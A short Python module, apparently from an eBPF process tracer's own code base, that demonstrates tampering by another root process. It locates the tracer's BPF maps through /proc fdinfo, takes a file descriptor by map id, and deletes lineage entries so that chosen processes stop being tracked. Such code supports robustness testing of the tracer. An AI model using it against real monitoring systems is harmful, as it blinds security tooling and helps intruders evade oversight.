"""What another root can do to the kernel half: its maps, by their ids."""

from __future__ import annotations

import mmap
import os
import re
import struct
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

from tracer.capture import maps
from tracer.probe.syscalls import bpf

_GET_FD_BY_ID = 14
# By type and size, as /proc/PID/fdinfo has them: a hash, a ring.
LINEAGE = {"map_type": "1", "max_entries": "65536"}
CRITICAL = {"map_type": "27", "max_entries": str(512 * mmap.PAGESIZE)}


@contextmanager
def stolen(pid: int, which: dict[str, str]) -> Iterator[int]:
    """One of the maps of this process."""
    infos = list[str]()
    for path in Path(f"/proc/{pid}/fdinfo").iterdir():
        with suppress(FileNotFoundError):  # closed meanwhile
            infos.append(path.read_text())
    each = [dict(re.findall(r"^(\w+):\s*(\S+)$", info, re.MULTILINE)) for info in infos]
    (number,) = {int(fields["map_id"]) for fields in each if which.items() <= fields.items()}
    fd = bpf(_GET_FD_BY_ID, struct.pack("=III", number, 0, 0))
    yield fd
    os.close(fd)


def take_out(pid: int, *tgids: int) -> None:
    """From now on these processes aren't followed, as far as the thief knows; none named: all."""
    with stolen(pid, LINEAGE) as fd:
        table = maps.HashMap(fd, maps.NUMBER, maps.LINEAGE)
        taken = [(tgid,) for tgid in tgids] or list(dict(table.items()))
        assert taken
        for key in taken:
            table.discard(key)
